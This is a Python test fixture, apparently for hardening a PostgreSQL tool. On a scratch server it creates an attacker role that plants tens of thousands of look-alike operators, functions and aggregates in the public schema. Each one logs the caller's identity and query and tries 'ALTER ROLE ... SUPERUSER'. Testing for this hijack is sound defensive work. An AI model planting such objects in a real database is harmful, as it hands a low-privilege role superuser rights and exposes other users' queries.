"""An attacker who may CREATE in `public` plants operators, functions and aggregates that a
careless query would resolve to instead of pg_catalog's (more exact argument types win
PostgreSQL's overload resolution whatever the search_path order). Each planted routine records
who ran it, and which statement, in a table of the attacker's own, and tries to make the
attacker a superuser."""

from __future__ import annotations

import functools
import itertools
import secrets
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass

from psycopg import sql

from uaip_db.servers.scratch import ScratchServer
from uaip_db.settings import DatabaseConfig

# Argument types a catalog query, a bookkeeping table or a parameter may hand an operator or a
# function (a planted overload with more exact types than pg_catalog's wins).
TYPES = (
    "name", "text", '"char"', "varchar", "bpchar", "oid", "regclass", "regnamespace", "regtype",
    "regproc", "regprocedure", "regrole", "regoper", "int2", "int4", "int8", "numeric", "float8",
    "bool", "xid", "timestamptz", "interval", "bytea", "jsonb", "json", "pg_node_tree",
    "int2vector", "oidvector", "name[]", "text[]", "oid[]", "int2[]", '"char"[]', "aclitem[]",
    "regtype[]", "varchar[]",
)  # fmt: skip
BOOLEAN_OPERATORS = (
    "=", "<>", "<", ">", "<=", ">=", "~~", "!~~", "~~*", "!~~*", "~", "!~", "~*", "!~*",
    "@>", "<@", "&&", "?", "?|", "?&",
)  # fmt: skip
TEXT_OPERATORS = ("||", "+", "-", "*", "/", "->", "->>", "#>", "#>>", "#-")
# Functions and aggregates a catalog or bookkeeping query plausibly calls, planted for one or two
# arguments of the types below.
FUNCTIONS = (
    "lower", "upper", "format", "quote_ident", "quote_literal", "quote_nullable", "concat",
    "concat_ws", "replace", "regexp_replace", "left", "right", "length", "btrim", "ltrim", "rtrim",
    "split_part", "md5", "sha256", "encode", "decode", "to_char", "to_json", "to_jsonb",
    "jsonb_build_object", "json_build_object", "jsonb_build_array", "array_to_string",
    "string_to_array", "array_position", "array_length", "cardinality", "unnest", "starts_with",
    "strpos", "position", "substr", "to_regclass", "to_regtype", "to_regnamespace", "to_regproc",
    "format_type", "pg_get_expr", "pg_get_indexdef", "pg_get_constraintdef", "pg_get_triggerdef",
    "pg_get_viewdef", "pg_get_functiondef", "pg_get_function_identity_arguments",
    "pg_get_function_result", "pg_get_function_arguments", "pg_get_userbyid", "obj_description",
    "col_description", "has_table_privilege", "has_schema_privilege", "pg_has_role",
    "pg_relation_size", "pg_total_relation_size", "pg_table_size", "pg_size_pretty", "aclexplode",
    "acldefault", "current_setting", "set_config", "pg_advisory_lock", "pg_try_advisory_lock",
    "pg_advisory_unlock", "pg_advisory_unlock_all", "hashtext", "pg_blocking_pids",
    "pg_export_snapshot", "pg_encoding_to_char", "pg_describe_object", "pg_identify_object",
    "array_cat", "array_append", "array_remove", "jsonb_typeof", "row_to_json", "generate_series",
    "pg_column_size", "pg_get_serial_sequence", "pg_get_partkeydef", "pg_get_statisticsobjdef",
    "pg_get_ruledef", "pg_get_keywords", "regexp_match", "regexp_matches", "pg_is_in_recovery",
    "pg_control_system", "pg_backend_pid", "now", "clock_timestamp", "version", "txid_current",
    "pg_current_xact_id", "current_database", "pg_postmaster_start_time", "round", "extract",
    "date_part", "trim", "coalesce_", "translate", "initcap", "abs", "greatest_", "num_nonnulls",
)  # fmt: skip
FUNCTION_TYPES = (
    "name", "text", '"char"', "varchar", "oid", "regclass", "regnamespace", "int2", "int4",
    "int8", "bool", "name[]", "text[]", "oid[]", "int2[]", "aclitem[]", "pg_node_tree",
)  # fmt: skip
AGGREGATES = ("array_agg", "string_agg", "jsonb_agg", "json_agg", "jsonb_object_agg", "count",
              "max", "min", "bool_and", "bool_or", "every", "sum")  # fmt: skip


@dataclass(frozen=True)
class Attacker:
    role: str
    schema: str

    @property
    def record(self) -> str:
        return f"{self.schema}.ran"


def _planting_sql(attacker: Attacker, overloads: bool = True) -> str:
    schema = sql.Identifier(attacker.schema)
    statements: list[sql.Composable] = [
        sql.SQL("CREATE TABLE {}.ran (who text, statement text)").format(schema),
        sql.SQL("GRANT USAGE ON SCHEMA {} TO PUBLIC").format(schema),
        sql.SQL("GRANT INSERT ON {}.ran TO PUBLIC").format(schema),
        # Runs as whoever calls it: records the caller, then tries to promote the attacker.
        sql.SQL(
            "CREATE FUNCTION {s}.note() RETURNS void LANGUAGE plpgsql AS $$ BEGIN "
            "INSERT INTO {s}.ran VALUES (current_user, current_query()); "
            "BEGIN EXECUTE 'ALTER ROLE ' || {r} || ' SUPERUSER'; "
            "EXCEPTION WHEN OTHERS THEN NULL; END; END $$"
        ).format(s=schema, r=sql.Literal(sql.Identifier(attacker.role).as_string(None))),
        sql.SQL(
            "CREATE FUNCTION {s}.agg_step(text, anyelement) RETURNS text LANGUAGE plpgsql AS "
            "$$ BEGIN PERFORM {s}.note(); RETURN $1; END $$"
        ).format(s=schema),
        sql.SQL(
            "CREATE FUNCTION {s}.agg_step2(text, anyelement, text) RETURNS text "
            "LANGUAGE plpgsql AS $$ BEGIN PERFORM {s}.note(); RETURN $1; END $$"
        ).format(s=schema),
    ]
    own = ";\n".join(s.as_string(None) for s in statements)
    return own + ";\n" + _overloads_sql(attacker.schema) if overloads else own


@functools.cache
def _overloads_sql(schema_name: str) -> str:
    """The planted operators, functions and aggregates (about 50,000 statements, the same for
    every attacker of that schema: built once)."""
    schema = sql.Identifier(schema_name)
    statements: list[sql.Composable] = []
    body = sql.SQL("$$ BEGIN PERFORM {}.note(); RETURN NULL; END $$").format(schema)
    for number, (left, right) in enumerate(itertools.product(TYPES, TYPES)):
        for returns, operators in (("bool", BOOLEAN_OPERATORS), ("text", TEXT_OPERATORS)):
            function = sql.Identifier(schema_name, f"op_{returns}_{number}")
            statements.append(
                sql.SQL("CREATE FUNCTION {}({}, {}) RETURNS {} LANGUAGE plpgsql AS {}").format(
                    function, sql.SQL(left), sql.SQL(right), sql.SQL(returns), body
                )
            )
            statements.extend(
                sql.SQL(
                    "CREATE OPERATOR public.{} (LEFTARG = {}, RIGHTARG = {}, FUNCTION = {})"
                ).format(sql.SQL(op), sql.SQL(left), sql.SQL(right), function)
                for op in operators
            )
    for name in FUNCTIONS:
        signatures: list[tuple[str, ...]] = [(t,) for t in FUNCTION_TYPES]
        signatures += list(itertools.product(FUNCTION_TYPES, ("text", "name", "int4", "oid")))
        for arguments in signatures:
            statements.append(
                sql.SQL("CREATE FUNCTION public.{}({}) RETURNS text LANGUAGE plpgsql AS {}").format(
                    sql.Identifier(name), sql.SQL(", ").join(map(sql.SQL, arguments)), body
                )
            )
    for name in AGGREGATES:
        for argument in FUNCTION_TYPES:
            statements.append(
                sql.SQL(
                    "CREATE AGGREGATE public.{}({}) (SFUNC = {}.agg_step, STYPE = text)"
                ).format(sql.Identifier(name), sql.SQL(argument), schema)
            )
            statements.append(
                sql.SQL(
                    "CREATE AGGREGATE public.{}({}, text) (SFUNC = {}.agg_step2, STYPE = text)"
                ).format(sql.Identifier(name), sql.SQL(argument), schema)
            )
    return ";\n".join(s.as_string(None) for s in statements)


@contextmanager
def attacker_in(
    server: ScratchServer, database: DatabaseConfig, overloads: bool = True
) -> Iterator[Attacker]:
    """A role with CREATE on `database`'s public schema (PostgreSQL 14's default for everyone),
    its record table in a schema of its own, and its operators and functions planted in public.
    The role goes at the end, and `database` with it."""
    import psycopg

    attacker = Attacker(f"uaip_attacker_{secrets.token_hex(3)}", "attacker_s")
    role = sql.Identifier(attacker.role)
    with server.connection() as admin:
        admin.execute(sql.SQL("CREATE ROLE {} NOSUPERUSER").format(role))
    try:
        with psycopg.connect(**database.connect_kwargs(), autocommit=True) as conn:
            conn.execute(sql.SQL("GRANT CREATE ON SCHEMA public TO {}").format(role))
            conn.execute(
                sql.SQL("CREATE SCHEMA {} AUTHORIZATION {}").format(
                    sql.Identifier(attacker.schema), role
                )
            )
            conn.execute(sql.SQL("SET ROLE {}").format(role))
            conn.execute(_planting_sql(attacker, overloads).encode())
            conn.execute("RESET ROLE")
        yield attacker
    finally:
        server.drop_database(database.name)  # with the attacker's objects in it
        with server.connection() as admin:
            admin.execute(sql.SQL("DROP ROLE IF EXISTS {}").format(role))


def ran(database: DatabaseConfig, attacker: Attacker) -> list[tuple[str, str]]:
    import psycopg

    with psycopg.connect(**database.connect_kwargs(), autocommit=True) as conn:
        rows = conn.execute(f"SELECT who, statement FROM {attacker.record}").fetchall()
    return [(str(who), str(statement)) for who, statement in rows]


def is_superuser(server: ScratchServer, attacker: Attacker) -> bool:
    with server.connection() as conn:
        row = conn.execute(
            "SELECT rolsuper FROM pg_roles WHERE rolname = %s", (attacker.role,)
        ).fetchone()
    return bool(row and row[0])
